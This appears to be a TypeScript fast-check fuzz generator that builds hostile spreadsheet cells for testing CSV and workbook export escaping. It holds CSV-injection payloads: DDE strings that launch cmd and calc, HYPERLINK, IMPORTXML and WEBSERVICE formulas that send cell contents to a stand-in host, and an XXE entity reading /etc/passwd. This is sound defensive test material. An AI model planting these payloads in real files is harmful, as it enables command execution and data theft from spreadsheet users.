import fc from 'fast-check';

export type Cell = string | number | null;
export interface Table {
  readonly headers: readonly string[];
  readonly rows: readonly (readonly Cell[])[];
}

/** What starts a formula in some spreadsheet of some country, and what brings it to the start of a cell. */
const starts = ['=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫', '−'];
const before = [
  '',
  ' ',
  '  ',
  '\u00a0',
  '\u200b',
  '\ufeff',
  '\u2060',
  '\u202e',
  '"',
  "'",
  "''",
  '\u0001',
  '\u000b',
  '`',
];
const formulas = [
  '1+1',
  'HYPERLINK("https://canary.example/?"&A1,"open")',
  "cmd|' /C calc'!A0",
  'DDE("cmd";"/C calc";"x")',
  "SUM(1,2)*cmd|' /C notepad'!A1",
  'IMPORTXML(CONCAT("https://canary.example/",A2),"//a")',
  'WEBSERVICE("https://canary.example/"&B1)',
  'IFERROR(1/0,"x")',
  "2+5+cmd|' /C calc'!A0",
  '512 555 0104',
  '',
];
/** What breaks a line of CSV, a part of a workbook, or a reader. */
const breakers = [
  '","=1+1","',
  '"\r\n=1+1,"x"\r\n"',
  'a\r\n=1+1',
  'a;=1+1;b',
  'a\t=1+1\tb',
  ']]>',
  '</t></is></c><c t="str"><f>1+1</f></c>',
  '<!DOCTYPE t [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;',
  '&#61;1+1',
  '&amp;&lt;',
  '<f>1+1</f>',
  '_x0041_',
  '_x003D_1+1',
  '_x003d_1+1',
  '_x005F_x003D_',
  '_x000D__x000A_',
  '_x005F_',
  '_x0041\r',
  '\u0000=1',
  '\u0007\u0008\u001b[31m',
  '\u007f\u0085\u009f',
  '\ufffe',
  '\uffff=1+1',
  '\ud800',
  'x\udc00=1',
  '\u2028=1\u2029',
  '  blanks both sides  ',
  '\u202e\u0661\u0662 مرحبا',
  '👩‍👧‍👦🥎',
  'e\u0301'.repeat(40),
  'long '.repeat(7_000),
  '='.repeat(3_000),
  '"'.repeat(501),
  '00123',
  '1e9',
  '2026-11-01',
  'TRUE',
  '#REF!',
  'null',
  'sep=;',
  'ID',
];

const text = fc.oneof(
  {
    weight: 4,
    arbitrary: fc.tuple(fc.constantFrom(...before), fc.constantFrom(...starts), fc.constantFrom(...formulas)),
  },
  { weight: 3, arbitrary: fc.tuple(fc.constantFrom(...before), fc.constantFrom(...breakers)) },
  { weight: 2, arbitrary: fc.array(fc.constantFrom(...starts, ...before, ...breakers.slice(0, 24)), { maxLength: 5 }) },
  { weight: 1, arbitrary: fc.array(fc.string({ unit: 'binary', maxLength: 20 }), { maxLength: 2 }) },
);
const number = fc.oneof(
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.constantFrom(0, -1, 2_032),
);

export const hostileCell: fc.Arbitrary<Cell> = fc.oneof(
  { weight: 12, arbitrary: text.map((parts) => parts.join('')) },
  { weight: 1, arbitrary: number },
  { weight: 1, arbitrary: fc.constant(null) },
);

export const hostileTable: fc.Arbitrary<Table> = fc.integer({ min: 1, max: 8 }).chain((width) =>
  fc.record({
    headers: fc.constant(Array.from({ length: width }, (_, index) => `Column ${index + 1}`)),
    rows: fc.array(fc.array(hostileCell, { minLength: width, maxLength: width }), { maxLength: 8 }),
  }),
);
